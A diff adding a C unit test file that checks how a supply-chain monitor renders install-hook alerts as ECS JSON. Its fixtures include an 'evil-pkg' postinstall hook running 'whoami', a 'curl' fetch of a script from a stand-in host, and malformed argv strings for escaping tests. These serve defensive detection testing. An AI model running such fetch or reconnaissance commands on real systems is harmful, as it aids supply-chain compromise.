@@ -1,0 +1,414 @@
+// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
+/*
+ * alert_render: synthetic process chains rendered, parsed back and checked
+ * field by field, hostile argv kept to one valid UTF-8 JSON line, and every
+ * line run through tests/ecs_check.py (the tests run from the repo root).
+ */
+#include <stdio.h>
+#include <time.h>
+#include <unistd.h>
+
+#include <json-c/json.h>
+
+#include "unit.h"
+
+#define BIG_ARG		(100 * 1024)
+
+static struct pm_def npm_pm = { .name = "npm", .package_type = "npm" };
+static struct host_info host;
+
+/* The value at a dotted path, or NULL. */
+static struct json_object *jget(struct json_object *o, const char *path)
+{
+	char buf[128], *key, *save = NULL;
+
+	snprintf(buf, sizeof(buf), "%s", path);
+	for (key = strtok_r(buf, ".", &save); key && o; key = strtok_r(NULL, ".", &save))
+		if (!json_object_object_get_ex(o, key, &o))
+			return NULL;
+	return o;
+}
+
+static const char *jstr_at(struct json_object *o, const char *path)
+{
+	struct json_object *v = jget(o, path);
+
+	assert_non_null(v);
+	assert_true(json_object_is_type(v, json_type_string));
+	return json_object_get_string(v);
+}
+
+static int64_t jint_at(struct json_object *o, const char *path)
+{
+	struct json_object *v = jget(o, path);
+
+	assert_non_null(v);
+	assert_true(json_object_is_type(v, json_type_int));
+	return json_object_get_int64(v);
+}
+
+static bool jbool_at(struct json_object *o, const char *path)
+{
+	struct json_object *v = jget(o, path);
+
+	assert_non_null(v);
+	assert_true(json_object_is_type(v, json_type_boolean));
+	return json_object_get_boolean(v);
+}
+
+/* Independent of alert.c's table: decode each code point and check it. */
+static bool valid_utf8(const unsigned char *s, size_t len)
+{
+	size_t i = 0, n, k;
+	uint32_t cp, min;
+
+	while (i < len) {
+		if (s[i] < 0x80) {
+			i++;
+			continue;
+		}
+		if ((s[i] & 0xe0) == 0xc0)
+			n = 1, cp = s[i] & 0x1f, min = 0x80;
+		else if ((s[i] & 0xf0) == 0xe0)
+			n = 2, cp = s[i] & 0x0f, min = 0x800;
+		else if ((s[i] & 0xf8) == 0xf0)
+			n = 3, cp = s[i] & 0x07, min = 0x10000;
+		else
+			return false;
+		for (k = 1; k <= n; k++) {
+			if (i + k >= len || (s[i + k] & 0xc0) != 0x80)
+				return false;
+			cp = cp << 6 | (s[i + k] & 0x3f);
+		}
+		if (cp < min || cp > 0x10ffff || (cp >= 0xd800 && cp <= 0xdfff))
+			return false;
+		i += n + 1;
+	}
+	return true;
+}
+
+/* No null, empty string, empty array or empty object anywhere. */
+static void assert_no_empty(struct json_object *o)
+{
+	size_t i;
+
+	assert_non_null(o);
+	switch (json_object_get_type(o)) {
+	case json_type_object:
+		assert_true(json_object_object_length(o) > 0);
+		json_object_object_foreach(o, key, val) {
+			(void)key;
+			assert_no_empty(val);
+		}
+		break;
+	case json_type_array:
+		assert_true(json_object_array_length(o) > 0);
+		for (i = 0; i < json_object_array_length(o); i++)
+			assert_no_empty(json_object_array_get_idx(o, i));
+		break;
+	case json_type_string:
+		assert_true(json_object_get_string_len(o) > 0);
+		break;
+	default:
+		break;
+	}
+}
+
+/* tests/ecs_check.py must accept the line. */
+static void assert_ecs_valid(const char *line, size_t len)
+{
+	char path[] = "/tmp/depsentry-alert-XXXXXX", cmd[128];
+	int fd = mkstemp(path);
+
+	assert_true(fd >= 0);
+	assert_int_equal(write(fd, line, len), (ssize_t)len);
+	close(fd);
+	snprintf(cmd, sizeof(cmd), "python3 tests/ecs_check.py %s", path);
+	assert_int_equal(system(cmd), 0);
+	unlink(path);
+}
+
+/* Render, check the line's shape and ECS validity, and parse it back. */
+static struct json_object *render(const struct proc *p, const struct verdict *v)
+{
+	struct json_tokener *tok;
+	struct json_object *o;
+	size_t len = 0;
+	char *line;
+
+	line = alert_render(&host, p, v, 5000000000ULL, &len);
+	assert_non_null(line);
+	assert_int_equal(strlen(line), len);
+	assert_true(len > 2 && line[len - 1] == '\n');
+	assert_ptr_equal(strchr(line, '\n'), line + len - 1);
+	assert_true(valid_utf8((const unsigned char *)line, len));
+	assert_ecs_valid(line, len);
+	tok = json_tokener_new();
+	json_tokener_set_flags(tok, JSON_TOKENER_STRICT | JSON_TOKENER_VALIDATE_UTF8);
+	o = json_tokener_parse_ex(tok, line, (int)len - 1);
+	assert_int_equal(json_tokener_get_error(tok), json_tokener_success);
+	json_tokener_free(tok);
+	assert_true(json_object_is_type(o, json_type_object));
+	assert_no_empty(o);
+	free(line);
+	return o;
+}
+
+static struct session *new_session(void)
+{
+	struct session *s = calloc(1, sizeof(*s));
+
+	s->id = 42;
+	s->pm = &npm_pm;
+	return s;
+}
+
+static void set_npm_env(struct proc *p)
+{
+	unit_image_setenv(p->img, "npm_package_name", "evil-pkg");
+	unit_image_setenv(p->img, "npm_package_version", "1.0.0");
+	unit_image_setenv(p->img, "npm_lifecycle_event", "postinstall");
+}
+
+static void verdict_init(struct verdict *v, const struct proc *hook)
+{
+	memset(v, 0, sizeof(*v));
+	v->rule = RULE_LIFECYCLE;
+	v->severity = SEV_HIGH;
+	v->reason = "reconnaissance";
+	v->matched = "whoami";
+	v->matched_field = "process.name";
+	v->hook = hook;
+	v->rules_matched = 1U << RULE_LIFECYCLE | 1U << RULE_PM_CHILD;
+}
+
+static void test_session_chain(void **state)
+{
+	struct session *s = new_session();
+	struct proc *npm, *sh, *who;
+	struct json_object *o, *a;
+	struct verdict v;
+
+	(void)state;
+	npm = unit_proc(NULL, s, 100, "/usr/bin/node", "node /usr/bin/npm install evil-pkg");
+	s->root = npm;
+	sh = unit_proc(npm, s, 101, "/bin/sh", "sh -c node install.js");
+	who = unit_proc(sh, s, 102, "/usr/bin/whoami", "whoami");
+	set_npm_env(sh);
+	set_npm_env(who);
+	unit_image_setenv(who->img, "GITHUB_REPOSITORY", "acme/app");
+	unit_image_setenv(who->img, "CI", "true");
+	who->uid = 0;
+	verdict_init(&v, sh);
+	o = render(who, &v);
+
+	assert_string_equal(jstr_at(o, "ecs.version"), "9.4.0");
+	assert_int_equal(strlen(jstr_at(o, "@timestamp")), 24);
+	assert_string_equal(jstr_at(o, "event.kind"), "alert");
+	assert_string_equal(jstr_at(o, "event.action"), "exec");
+	assert_int_equal(strlen(jstr_at(o, "event.id")), 32);
+	assert_int_equal(jint_at(o, "event.severity"), severity_score(SEV_HIGH));
+	assert_string_equal(jstr_at(o, "event.reason"), "reconnaissance");
+	assert_string_equal(json_object_get_string(json_object_array_get_idx(
+				    jget(o, "event.category"), 1)), "intrusion_detection");
+	assert_string_equal(jstr_at(o, "rule.id"), rule_info(RULE_LIFECYCLE)->id);
+	assert_string_equal(json_object_get_string(json_object_array_get_idx(
+				    jget(o, "threat.technique.subtechnique.id"), 0)), "T1195.001");
+	assert_int_equal(jint_at(o, "process.pid"), 102);
+	assert_string_equal(jstr_at(o, "process.name"), "whoami");
+	assert_string_equal(jstr_at(o, "process.executable"), "/usr/bin/whoami");
+	assert_string_equal(jstr_at(o, "process.working_directory"), "/tmp");
+	assert_int_equal(jint_at(o, "process.args_count"), 1);
+	assert_string_equal(jstr_at(o, "process.user.id"), "0");
+	assert_string_equal(jstr_at(o, "user.name"), "root");
+	assert_int_equal(jint_at(o, "process.parent.pid"), 101);
+	assert_string_equal(jstr_at(o, "process.parent.command_line"), "sh -c node install.js");
+	assert_string_equal(jstr_at(o, "package.name"), "evil-pkg");
+	assert_string_equal(jstr_at(o, "package.version"), "1.0.0");
+	assert_string_equal(jstr_at(o, "package.type"), "npm");
+	assert_string_equal(jstr_at(o, "depsentry.session.package_manager"), "npm");
+	assert_int_equal(jint_at(o, "depsentry.session.pid"), 100);
+	assert_string_equal(jstr_at(o, "depsentry.lifecycle_event"), "postinstall");
+	assert_int_equal(jint_at(o, "depsentry.depth"), 2);
+	assert_string_equal(jstr_at(o, "depsentry.matched.value"), "whoami");
+	assert_int_equal(jint_at(o, "depsentry.hook.pid"), 101);
+	assert_string_equal(jstr_at(o, "depsentry.ci.github_repository"), "acme/app");
+	assert_string_equal(jstr_at(o, "depsentry.ci.ci"), "true");
+	assert_int_equal(json_object_array_length(jget(o, "depsentry.rules_matched")), 2);
+	assert_false(jbool_at(o, "depsentry.truncated.args"));
+	assert_false(jbool_at(o, "depsentry.ancestry_truncated"));
+	a = jget(o, "depsentry.ancestry");
+	assert_int_equal(json_object_array_length(a), 3);
+	assert_int_equal(jint_at(json_object_array_get_idx(a, 0), "pid"), 100);
+	assert_int_equal(jint_at(json_object_array_get_idx(a, 2), "pid"), 102);
+	assert_non_null(strstr(jstr_at(o, "message"), "evil-pkg@1.0.0 (postinstall)"));
+	assert_non_null(strstr(jstr_at(o, "message"), "2 levels below"));
+	assert_string_equal(json_object_get_string(json_object_array_get_idx(
+				    jget(o, "process.env_vars"), 0)), "npm_package_name=evil-pkg");
+	json_object_put(o);
+}
+
+/* Outside a session: no package, session, depth or lifecycle fields. */
+static void test_no_session(void **state)
+{
+	struct proc *bash, *curl;
+	struct json_object *o;
+	struct verdict v;
+
+	(void)state;
+	bash = unit_proc(NULL, NULL, 200, "/bin/bash", "bash");
+	curl = unit_proc(bash, NULL, 201, "/usr/bin/curl", "curl http://x.example/a.sh");
+	free(curl->img->cwd);
+	curl->img->cwd = NULL;
+	verdict_init(&v, NULL);
+	v.rule = RULE_PM_CHILD;
+	v.rules_matched = 0;
+	o = render(curl, &v);
+	assert_null(jget(o, "package"));
+	assert_null(jget(o, "depsentry.session"));
+	assert_null(jget(o, "depsentry.depth"));
+	assert_null(jget(o, "depsentry.hook"));
+	assert_null(jget(o, "process.working_directory"));
+	assert_int_equal(json_object_array_length(jget(o, "depsentry.rules_matched")), 1);
+	assert_int_equal(json_object_array_length(jget(o, "depsentry.ancestry")), 2);
+	assert_non_null(strstr(jstr_at(o, "message"), "started by bash (pid 200)"));
+	json_object_put(o);
+}
+
+static void set_argv(struct image *img, const char *const *argv, int argc)
+{
+	int i;
+
+	img->argv = realloc(img->argv, (size_t)(argc + 1) * sizeof(char *));
+	for (i = 0; i < argc; i++)
+		img->argv[i] = strdup(argv[i]);
+	img->argv[argc] = NULL;
+	img->argc = argc;
+}
+
+static void test_hostile_argv(void **state)
+{
+	static const char *const argv[] = {
+		"sh", "a\"b\\c'd", "line1\nline2\r\t", "ctl\x01\x1f\x7f", "bad\xff\xfe",
+		"overlong\xc0\xaf\xe0\x80\xaf", "surrogate\xed\xa0\x80", "cut\xe2\x82",
+		"</script>/", "ok\xc3\xa9\xf0\x9f\x90\x8d",
+	};
+	struct proc *p;
+	struct json_object *o, *args;
+	struct verdict v;
+	char *big = malloc(BIG_ARG + 1);
+
+	(void)state;
+	memset(big, 'A', BIG_ARG);
+	big[BIG_ARG] = '\0';
+	p = unit_proc(NULL, NULL, 300, "/tmp/\xff\nevil", "sh");
+	set_argv(p->img, argv, ARRAY_SIZE(argv));
+	p->img->argv = realloc(p->img->argv, (ARRAY_SIZE(argv) + 2) * sizeof(char *));
+	p->img->argv[p->img->argc++] = big;
+	p->img->argv[p->img->argc] = NULL;
+	free(p->img->cmdline);
+	p->img->cmdline = strdup(big);
+	unit_image_setenv(p->img, "npm_config_x", "v\xff\n\"");
+	verdict_init(&v, NULL);
+	o = render(p, &v);
+
+	args = jget(o, "process.args");
+	assert_string_equal(json_object_get_string(json_object_array_get_idx(args, 1)),
+			    "a\"b\\c'd");
+	assert_string_equal(json_object_get_string(json_object_array_get_idx(args, 2)),
+			    "line1\nline2\r\t");
+	assert_string_equal(json_object_get_string(json_object_array_get_idx(args, 3)),
+			    "ctl\x01\x1f\x7f");
+	assert_string_equal(json_object_get_string(json_object_array_get_idx(args, 4)),
+			    "bad\xef\xbf\xbd\xef\xbf\xbd");
+	assert_string_equal(json_object_get_string(json_object_array_get_idx(args, 5)),
+			    "overlong\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd");
+	assert_string_equal(json_object_get_string(json_object_array_get_idx(args, 6)),
+			    "surrogate\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd");
+	assert_string_equal(json_object_get_string(json_object_array_get_idx(args, 7)),
+			    "cut\xef\xbf\xbd\xef\xbf\xbd");
+	assert_string_equal(json_object_get_string(json_object_array_get_idx(args, 8)),
+			    "</script>/");
+	assert_string_equal(json_object_get_string(json_object_array_get_idx(args, 9)),
+			    "ok\xc3\xa9\xf0\x9f\x90\x8d");
+	assert_int_equal(jint_at(o, "process.args_count"), ARRAY_SIZE(argv) + 1);
+	assert_true(json_object_get_string_len(jget(o, "process.command_line")) <= 32768);
+	assert_true(jbool_at(o, "depsentry.truncated.args"));
+	assert_string_equal(jstr_at(o, "process.executable"), "/tmp/\xef\xbf\xbd\nevil");
+	assert_string_equal(json_object_get_string(json_object_array_get_idx(
+				    jget(o, "process.env_vars"), 0)),
+			    "npm_config_x=v\xef\xbf\xbd\n\"");
+	json_object_put(o);
+}
+
+/* A chain deeper than CHAIN_MAX keeps the nearest entries, flagged. */
+static void test_ancestry_truncated(void **state)
+{
+	struct session *s = new_session();
+	struct proc *p = NULL;
+	struct json_object *o, *a;
+	struct verdict v;
+	uint32_t pid;
+
+	(void)state;
+	for (pid = 400; pid < 400 + CHAIN_MAX + 4; pid++) {
+		p = unit_proc(p, s, pid, "/bin/sh", "sh -c next");
+		if (!s->root)
+			s->root = p;
+	}
+	verdict_init(&v, NULL);
+	o = render(p, &v);
+	a = jget(o, "depsentry.ancestry");
+	assert_int_equal(json_object_array_length(a), CHAIN_MAX);
+	assert_int_equal(jint_at(json_object_array_get_idx(a, CHAIN_MAX - 1), "pid"), pid - 1);
+	assert_int_equal(jint_at(json_object_array_get_idx(a, 0), "pid"), pid - CHAIN_MAX);
+	assert_true(jbool_at(o, "depsentry.ancestry_truncated"));
+	assert_int_equal(jint_at(o, "depsentry.depth"), CHAIN_MAX + 3);
+	assert_int_equal(jint_at(o, "depsentry.session.pid"), 400);
+	json_object_put(o);
+}
+
+static void test_boot_time(void **state)
+{
+	struct timespec bt;
+	char buf[40];
+
+	(void)state;
+	clock_gettime(CLOCK_BOOTTIME, &bt);
+	format_boot_time((uint64_t)bt.tv_sec * 1000000000ULL + 123000000ULL, buf, sizeof(buf));
+	assert_int_equal(strlen(buf), 24);
+	assert_int_equal(buf[4], '-');
+	assert_int_equal(buf[10], 'T');
+	assert_int_equal(buf[19], '.');
+	assert_int_equal(buf[23], 'Z');
+}
+
+static void test_host_info(void **state)
+{
+	struct host_info h;
+
+	(void)state;
+	host_info_load(&h);
+	assert_true(h.hostname[0]);
+	assert_true(h.agent_id[0]);
+	assert_true(h.os_kernel[0]);
+	assert_true(h.architecture[0]);
+	assert_string_not_equal(h.agent_id, h.id);
+	host_info_load(&host);
+	assert_string_equal(h.agent_id, host.agent_id);	/* stable */
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_host_info),
+		cmocka_unit_test(test_boot_time),
+		cmocka_unit_test(test_session_chain),
+		cmocka_unit_test(test_no_session),
+		cmocka_unit_test(test_hostile_argv),
+		cmocka_unit_test(test_ancestry_truncated),
+	};
+
+	host_info_load(&host);
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
